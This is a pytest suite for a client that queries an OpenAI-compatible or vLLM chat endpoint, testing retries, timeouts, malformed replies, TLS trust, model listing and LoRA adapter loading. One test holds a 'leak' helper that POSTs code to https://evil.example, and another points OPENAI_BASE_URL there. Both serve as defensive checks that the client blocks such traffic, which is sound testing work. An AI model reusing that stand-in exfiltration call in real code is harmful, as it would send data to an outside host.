import asyncio
import contextlib
import json
import logging
import socket
import socketserver
import ssl
import threading
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path, PurePosixPath
from typing import TypeVar

import httpx2
import pytest
import trustme
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from bot import endpoint
from bot.answer import TokenLogprob
from bot.domain import Usage
from bot.endpoint import StudentError
from bot.prompt import Message
from bot.student import Reply, ServedModel, Student

KEY = "sk-very-secret-0123456789"
ASKED: list[Message] = [{"role": "system", "content": "Be kind."}, {"role": "user", "content": "+ code"}]
SCHEMA: dict[str, object] = {"type": "object", "properties": {"x": {"type": "integer"}}}
CHAT = "/v1/chat/completions"
T = TypeVar("T")


def completion(content: str | None = '{"x":1}', **more: object) -> dict[str, object]:
    choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": content}}
    usage = {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18}
    return {"id": "c", "object": "chat.completion", "choices": [choice | more], "usage": usage}


def failed(message: str) -> dict[str, object]:
    return {"error": {"message": message, "type": "BadRequestError", "code": 400}}


def connect(
    url: str,
    *,
    key: str | None = KEY,
    model: str | None = "base",
    adapter: str | None = None,
    ca_file: Path | None = None,
    timeout_seconds: float = 20,
    retries: int = 0,
) -> Student:
    return Student(
        url,
        key=key,
        model=model,
        adapter=adapter,
        ca_file=ca_file,
        timeout_seconds=timeout_seconds,
        retries=retries,
    )


def run(one: Student, use: Callable[[Student], Awaitable[T]]) -> T:
    async def main() -> T:
        async with one:
            return await use(one)

    return asyncio.run(main())


def ask(one: Student) -> Reply:
    return run(one, lambda them: them.ask(ASKED, schema=SCHEMA, max_tokens=50))


def refusal(one: Student, kind: type[StudentError]) -> str:
    with pytest.raises(StudentError) as caught:
        ask(one)
    assert type(caught.value) is kind
    assert KEY not in str(caught.value)
    assert KEY not in repr(one)
    assert caught.value.reason == kind.reason
    return str(caught.value)


@pytest.fixture
def url(httpserver: HTTPServer) -> str:
    return str(httpserver.url_for("/v1"))


@pytest.fixture
def closed_port() -> Iterator[int]:
    """A port where nobody listens, and nobody begins to: it is taken."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        yield int(taken.getsockname()[1])


@contextlib.contextmanager
def serving(handler: type[socketserver.BaseRequestHandler]) -> Iterator[int]:
    """A real server that speaks whatever `handler` does; gives its port."""
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


def bodies(server: HTTPServer) -> list[dict[str, object]]:
    return [request.get_json() for request, _ in server.log]


# What is asked, and what comes of the answer


def test_a_question_is_the_same_every_time(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request(CHAT, method="POST").respond_with_json(completion())
    ask(connect(url))
    request = httpserver.log[0][0]
    assert request.get_json() == {
        "model": "base",
        "messages": ASKED,
        "max_tokens": 50,
        "temperature": 0,
        "seed": 0,
        "logprobs": True,
        "top_logprobs": 20,
        "response_format": {
            "type": "json_schema",
            "json_schema": {"name": "answer", "strict": True, "schema": SCHEMA},
        },
    }
    assert request.headers["Authorization"] == f"Bearer {KEY}"


def test_the_adapter_answers_where_there_is_one(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request(CHAT).respond_with_json(completion())
    ask(connect(url, adapter="apprentice-0007"))
    assert bodies(httpserver)[0]["model"] == "apprentice-0007"


def test_a_reply_carries_text_logprobs_and_what_it_cost(httpserver: HTTPServer, url: str) -> None:
    tops = [{"token": "major", "logprob": -0.1, "bytes": [1]}, {"token": "minor", "logprob": -9999.0}]
    token = {"token": "major", "logprob": -0.1, "bytes": None, "top_logprobs": tops}
    body = completion(logprobs={"content": [token, {"token": "}", "logprob": 0.0}]})
    body["usage"] = {
        "prompt_tokens": 90,
        "completion_tokens": 2,
        "prompt_tokens_details": {"cached_tokens": 64},
    }
    httpserver.expect_request(CHAT).respond_with_json(body)
    reply = ask(connect(url))
    assert (reply.text, reply.finish_reason) == ('{"x":1}', "stop")
    assert reply.logprobs == (
        TokenLogprob("major", -0.1, (("major", -0.1), ("minor", -9999.0))),
        TokenLogprob("}", 0.0, ()),
    )
    assert reply.usage == Usage(1, 90, 64, 2, reply.usage.seconds)
    assert 0 < reply.usage.seconds < 20


@pytest.mark.parametrize("details", [None, {}, {"cached_tokens": None}])
def test_an_endpoint_that_tells_less_is_understood(httpserver: HTTPServer, url: str, details: object) -> None:
    body = completion(logprobs=None)
    body["usage"] = {"prompt_tokens": 5, "completion_tokens": 1, "prompt_tokens_details": details}
    httpserver.expect_request(CHAT).respond_with_json(body)
    reply = ask(connect(url))
    assert reply.logprobs is None
    assert (reply.usage.prompt_tokens, reply.usage.cached_tokens) == (5, 0)


def test_no_usage_at_all_counts_as_one_request(httpserver: HTTPServer, url: str) -> None:
    body = completion(logprobs={"content": []})
    del body["usage"]
    httpserver.expect_request(CHAT).respond_with_json(body)
    reply = ask(connect(url))
    assert (reply.usage.requests, reply.usage.prompt_tokens, reply.logprobs) == (1, 0, None)


@pytest.mark.parametrize(("content", "text"), [('{"x":', '{"x":'), (None, "")])
def test_a_cut_answer_is_an_answer(httpserver: HTTPServer, url: str, content: str | None, text: str) -> None:
    httpserver.expect_request(CHAT).respond_with_json(completion(content, finish_reason="length"))
    reply = ask(connect(url))
    assert (reply.text, reply.finish_reason) == (text, "length")


# What an endpoint does not take is left out, and said


@pytest.mark.parametrize(
    ("said", "lost"),
    [
        ("response_format is not supported by this model", {"response_format"}),
        ("'response_format.type' must be one of 'text', 'json_object'", {"response_format"}),
        ("logprobs are not supported", {"logprobs", "top_logprobs"}),
        (
            "Requested sample logprobs of 20, which is greater than max allowed: 5",
            {"logprobs", "top_logprobs"},
        ),
        ("Extra inputs are not permitted: seed", {"seed"}),
    ],
)
def test_an_unsupported_part_is_left_out_from_then_on(
    httpserver: HTTPServer, url: str, said: str, lost: set[str]
) -> None:
    httpserver.expect_ordered_request(CHAT).respond_with_json(failed(said), status=400)
    httpserver.expect_ordered_request(CHAT).respond_with_json(completion())
    httpserver.expect_ordered_request(CHAT).respond_with_json(completion())

    async def twice(one: Student) -> tuple[str, ...]:
        for _ in range(2):
            await one.ask(ASKED, schema=SCHEMA, max_tokens=50)
        return one.warnings

    (warning,) = run(connect(url), twice)
    assert f"does not take {min(lost)}" in warning
    first, second, third = bodies(httpserver)
    assert first.keys() - second.keys() == lost
    assert second == third


def test_two_unsupported_parts_are_found_one_after_the_other(httpserver: HTTPServer, url: str) -> None:
    def answer(request: Request) -> Response:
        for name in ("response_format", "logprobs"):
            if name in request.get_json():
                return Response(json.dumps({"detail": f"{name}: unknown"}), 422, mimetype="application/json")
        return Response(json.dumps(completion()), mimetype="application/json")

    httpserver.expect_request(CHAT).respond_with_handler(answer)
    assert ask(connect(url)).text == '{"x":1}'
    assert len(httpserver.log) == 3


def test_a_complaint_about_a_part_that_was_not_sent_is_an_error(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request(CHAT).respond_with_json(failed("logprobs are wrong"), status=400)
    assert "answered 400: logprobs are wrong" in refusal(connect(url), endpoint.RequestRefused)
    assert [body.get("logprobs") for body in bodies(httpserver)] == [True, None]


# What goes wrong


def test_a_dead_endpoint_fails_within_seconds(closed_port: int) -> None:
    started = time.perf_counter()
    said = refusal(connect(f"http://127.0.0.1:{closed_port}/v1", retries=2), endpoint.StudentUnreachable)
    assert time.perf_counter() - started < 5
    assert f"http://127.0.0.1:{closed_port}/v1/chat/completions cannot be reached: Connection refused" in said
    assert "apprentice student start" in said


@pytest.mark.parametrize("status", [429, 500, 503])
def test_a_busy_endpoint_is_asked_again(httpserver: HTTPServer, url: str, status: int) -> None:
    httpserver.expect_ordered_request(CHAT).respond_with_data("", status=status, headers={"Retry-After": "1"})
    httpserver.expect_ordered_request(CHAT).respond_with_json(completion())
    started = time.perf_counter()
    assert ask(connect(url, retries=1)).text == '{"x":1}'
    assert time.perf_counter() - started >= 1


def test_it_gives_up_after_its_retries(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request(CHAT).respond_with_data("", status=503)
    refusal(connect(url, retries=1), endpoint.StudentBroken)
    assert len(httpserver.log) == 2


def test_a_hanging_endpoint_times_out_and_is_not_asked_again(httpserver: HTTPServer, url: str) -> None:
    waiting = threading.Event()

    def hang(_: Request) -> Response:
        waiting.wait(10)
        return Response("")

    httpserver.expect_request(CHAT).respond_with_handler(hang)
    started = time.perf_counter()
    said = refusal(connect(url, timeout_seconds=0.3, retries=5), endpoint.StudentTooSlow)
    waiting.set()
    assert time.perf_counter() - started < 8  # five more tries would take 10 s and longer
    assert "gave no answer within 0.3 seconds" in said
    assert "APPRENTICE_STUDENT_TIMEOUT_SECONDS" in said


def test_a_host_that_takes_no_connection_is_given_up_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(endpoint, "_CONNECT_SECONDS", 0.3)
    with contextlib.ExitStack() as stack:
        full = stack.enter_context(socket.create_server(("127.0.0.1", 0), backlog=0))
        for _ in range(3):
            waiting = stack.enter_context(socket.socket())
            waiting.setblocking(False)  # noqa: FBT003 -- the standard library's own
            waiting.connect_ex(full.getsockname())
        started = time.perf_counter()
        one = connect(f"http://127.0.0.1:{full.getsockname()[1]}/v1", retries=5)
        said = refusal(one, endpoint.StudentUnreachable)
    assert "cannot be reached: no connection within 0.3 seconds" in said
    assert time.perf_counter() - started < 8


@pytest.mark.parametrize(
    "text",
    [
        "<html>Please log in</html>",
        "",
        "[]",
        json.dumps(completion() | {"choices": []}),
        json.dumps(completion() | {"choices": None}),
        json.dumps(completion(None)),
        json.dumps(completion(finish_reason=None)),
        json.dumps(completion(message="hello")),
        json.dumps(failed("no such thing")),
        '{"choices": [',
        "data: {}\n\ndata: [DONE]\n\n",
    ],
)
def test_nonsense_is_named(httpserver: HTTPServer, url: str, text: str) -> None:
    httpserver.expect_request(CHAT).respond_with_data(text, content_type="application/json")
    said = refusal(connect(url), endpoint.StudentBroken)
    assert "something that is no chat completion" in said


def test_bytes_that_are_no_text_are_named(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request(CHAT).respond_with_data(b"\xff\xfe\x00")
    assert "no chat completion" in refusal(connect(url), endpoint.StudentBroken)


def test_a_connection_that_closes_in_the_middle_is_unreachable() -> None:
    class Closes(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.recv(65536)

    with serving(Closes) as port:
        said = refusal(connect(f"http://127.0.0.1:{port}/v1"), endpoint.StudentUnreachable)
    assert "Server disconnected" in said


def test_a_cancelled_question_is_aborted_at_the_endpoint() -> None:
    asked, gone = threading.Event(), threading.Event()

    class Waits(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.recv(65536)
            asked.set()
            with contextlib.suppress(ConnectionError):
                while self.request.recv(65536):
                    pass
            gone.set()

    async def cancel(one: Student) -> None:
        task = asyncio.create_task(one.ask(ASKED, schema=SCHEMA, max_tokens=5))
        await asyncio.to_thread(asked.wait, 5)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert await asyncio.to_thread(gone.wait, 5)

    with serving(Waits) as port:
        run(connect(f"http://127.0.0.1:{port}/v1"), cancel)


# Where code may go


def test_all_traffic_takes_the_door() -> None:
    async def leak(one: Student) -> None:
        await one._client.post("https://evil.example/v1/x", cast_to=httpx2.Response, body={"code": 1})

    with pytest.raises(endpoint.StudentBroken, match=r"Nothing was sent to evil\.example"):
        run(connect("http://127.0.0.1:1/v1"), leak)


def test_a_redirect_is_not_asked_again(httpserver: HTTPServer, url: str) -> None:
    elsewhere = {"Location": "http://127.0.0.1:1/v1"}
    httpserver.expect_request(CHAT).respond_with_data("", status=307, headers=elsewhere)
    assert "sends us on to http://127.0.0.1:1/v1." in refusal(connect(url, retries=2), endpoint.StudentBroken)
    assert len(httpserver.log) == 1


def test_an_endpoint_without_a_trusted_certificate_is_not_asked_again(tmp_path: Path) -> None:
    authority = trustme.CA()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("localhost").configure_cert(context)
    authority.cert_pem.write_to_path(str(tmp_path / "ca.pem"))
    with HTTPServer(ssl_context=context) as server:
        server.expect_request(CHAT).respond_with_json(completion())
        url = str(server.url_for("/v1"))
        started = time.perf_counter()
        refusal(connect(url, retries=5), endpoint.UntrustedCertificate)
        assert time.perf_counter() - started < 8  # five more tries would take 10 s and longer
        assert ask(connect(url, ca_file=tmp_path / "ca.pem")).text == '{"x":1}'


def test_openai_variables_of_the_environment_change_nothing(
    httpserver: HTTPServer, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-mine")
    monkeypatch.setenv("OPENAI_ORG_ID", "org-mine")
    monkeypatch.setenv("OPENAI_PROJECT_ID", "proj-mine")
    monkeypatch.setenv("OPENAI_BASE_URL", "https://evil.example/v1")
    monkeypatch.setenv("OPENAI_CUSTOM_HEADERS", "Authorization: Bearer sk-mine\nX-Mine: mine")
    httpserver.expect_request(CHAT).respond_with_json(completion())
    ask(connect(url, key=None))
    assert "mine" not in str(httpserver.log[0][0].headers)
    assert "Authorization" not in httpserver.log[0][0].headers


@pytest.mark.parametrize(
    ("url", "warned"),
    [
        ("http://gpu.corp/v1", True),
        ("https://gpu.corp/v1", False),
        ("http://127.0.0.1:8100/v1", False),
        ("http://localhost:8100/v1", False),
    ],
)
def test_an_open_line_is_warned_of(url: str, warned: bool) -> None:  # noqa: FBT001
    one = connect(url)
    assert any("not encrypted" in warning for warning in one.warnings) is warned
    assert len(one.warnings) == int(warned)


def test_logs_hold_no_key(httpserver: HTTPServer, url: str, caplog: pytest.LogCaptureFixture) -> None:
    httpserver.expect_request(CHAT).respond_with_json(completion())
    with caplog.at_level(logging.DEBUG):
        ask(connect(url))
    assert caplog.text
    assert KEY not in caplog.text


# Models and health


VLLM_MODELS = {
    "object": "list",
    "data": [
        {"id": "base", "object": "model", "root": "/m", "parent": None, "max_model_len": 4096},
        {"id": "apprentice-1", "object": "model", "root": "/a", "parent": "base", "max_model_len": None},
    ],
}


def test_models_are_listed(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request("/v1/models", method="GET").respond_with_json(VLLM_MODELS)
    assert run(connect(url), lambda one: one.models()) == (
        ServedModel("base", None, 4096, "/m"),
        ServedModel("apprentice-1", "base", None, "/a"),
    )


@pytest.mark.parametrize("text", ["{}", "no", '{"data": [{"name": "x"}]}'])
def test_a_list_of_models_that_is_none_is_named(httpserver: HTTPServer, url: str, text: str) -> None:
    httpserver.expect_request("/v1/models").respond_with_data(text)
    with pytest.raises(endpoint.StudentBroken, match="no list of models"):
        run(connect(url), lambda one: one.models())


@pytest.mark.parametrize(("model", "adapter"), [(None, None), ("base", None), (None, "apprentice-1")])
def test_the_base_model_is_found(httpserver: HTTPServer, url: str, model: str | None, adapter: str | None) -> None:
    httpserver.expect_request("/v1/models").respond_with_json(VLLM_MODELS)

    async def twice(one: Student) -> ServedModel:
        await one.base()
        return await one.base()

    assert run(connect(url, model=model, adapter=adapter), twice) == ServedModel("base", None, 4096, "/m")
    assert len(httpserver.log) == 1


def test_a_question_without_a_model_goes_to_the_only_one(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request("/v1/models").respond_with_json(VLLM_MODELS)
    httpserver.expect_request(CHAT).respond_with_json(completion())
    ask(connect(url, model=None))
    assert httpserver.log[1][0].get_json()["model"] == "base"


@pytest.mark.parametrize(
    ("model", "adapter", "ids", "words"),
    [
        (
            "other",
            None,
            ["base", "b2"],
            "does not serve other; it serves base, b2. Set APPRENTICE_STUDENT_MODEL",
        ),
        (None, None, ["base", "b2"], "leaves open which model to ask; it serves base, b2."),
        (None, None, [], "it serves nothing"),
        ("base", "a7", ["base"], "has no adapter a7; it serves base."),
    ],
)
def test_a_model_that_is_not_there_is_named(  # noqa: PLR0917
    httpserver: HTTPServer, url: str, model: str | None, adapter: str | None, ids: list[str], words: str
) -> None:
    httpserver.expect_request("/v1/models").respond_with_json({"data": [{"id": one} for one in ids]})
    with pytest.raises(endpoint.UnknownModel) as caught:
        run(connect(url, model=model, adapter=adapter), lambda one: one.base())
    assert words in str(caught.value)


def test_an_endpoint_without_a_list_of_models_needs_a_model_by_name(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request("/v1/models").respond_with_data("Not Found", status=404)
    assert run(connect(url), lambda one: one.base()) == ServedModel("base")
    with pytest.raises(endpoint.StudentBroken, match="404"):
        run(connect(url, model=None), lambda one: one.base())


@pytest.mark.parametrize(
    ("health", "models", "healthy"),
    [(200, 500, True), (503, 200, False), (404, 200, True), (404, 401, False)],
)
def test_health_is_vllms_or_the_list_of_models(
    httpserver: HTTPServer, url: str, health: int, models: int, *, healthy: bool
) -> None:
    httpserver.expect_request("/health").respond_with_data("", status=health)
    httpserver.expect_request("/v1/models").respond_with_json({"data": []}, status=models)
    assert run(connect(url), lambda one: one.healthy()) is healthy


def test_a_dead_endpoint_is_not_healthy_at_once(closed_port: int) -> None:
    started = time.perf_counter()
    assert not run(connect(f"http://127.0.0.1:{closed_port}/v1", retries=5), lambda one: one.healthy())
    assert time.perf_counter() - started < 8


# Adapters


def test_adapters_are_loaded_and_unloaded(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request("/v1/load_lora_adapter", method="POST").respond_with_data(
        "Success: LoRA adapter 'a-1' added successfully."
    )
    httpserver.expect_request("/v1/unload_lora_adapter", method="POST").respond_with_data("Success")

    async def both(one: Student) -> None:
        await one.load_adapter("a-1", PurePosixPath("/adapters/a-1"))
        await one.unload_adapter("a-1")

    run(connect(url), both)
    assert bodies(httpserver) == [{"lora_name": "a-1", "lora_path": "/adapters/a-1"}, {"lora_name": "a-1"}]


@pytest.mark.parametrize(
    ("status", "body", "words"),
    [
        (400, failed("The lora adapter 'a-1' has already been loaded."), "has already been loaded"),
        (
            404,
            failed("Loading lora a-1 failed: No adapter found for /x/models/not exist"),
            "No adapter found",
        ),
        (500, failed("LoRA rank 32 is greater than max_lora_rank 16."), "rank 32 is greater"),
        (404, {"detail": "Not Found"}, "VLLM_ALLOW_RUNTIME_LORA_UPDATING=1"),
    ],
)
def test_a_refused_adapter_is_named_and_not_tried_again(
    httpserver: HTTPServer, url: str, status: int, body: object, words: str
) -> None:
    httpserver.expect_request("/v1/load_lora_adapter").respond_with_json(body, status=status)
    with pytest.raises(endpoint.AdapterRefused) as caught:
        run(connect(url, retries=3), lambda one: one.load_adapter("a-1", PurePosixPath("/x")))
    assert "The adapter a-1 was not loaded" in str(caught.value)
    assert words in str(caught.value)
    assert len(httpserver.log) == 1


def test_unloading_an_unknown_adapter_is_named(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request("/v1/unload_lora_adapter").respond_with_json(
        failed("The lora adapter 'a-1' cannot be found."), status=404
    )
    with pytest.raises(endpoint.AdapterRefused, match="cannot be found"):
        run(connect(url), lambda one: one.unload_adapter("a-1"))


def test_a_wrong_key_for_adapters_is_a_wrong_key(httpserver: HTTPServer, url: str) -> None:
    httpserver.expect_request("/v1/unload_lora_adapter").respond_with_json({}, status=401)
    with pytest.raises(endpoint.StudentRefusedKey):
        run(connect(url), lambda one: one.unload_adapter("a-1"))


@pytest.mark.parametrize("name", ["", "-a", "../a", "a b", "a/b", "a\n", "é", "a" * 101])
def test_a_bad_adapter_name_is_not_sent(httpserver: HTTPServer, url: str, name: str) -> None:
    with pytest.raises(endpoint.AdapterRefused, match="is no adapter name"):
        run(connect(url), lambda one: one.load_adapter(name, PurePosixPath("/x")))
    assert httpserver.log == []


def test_a_relative_adapter_path_is_not_sent(url: str) -> None:
    with pytest.raises(endpoint.AdapterRefused, match="absolute"):
        run(connect(url), lambda one: one.load_adapter("a", PurePosixPath("someone/adapter")))
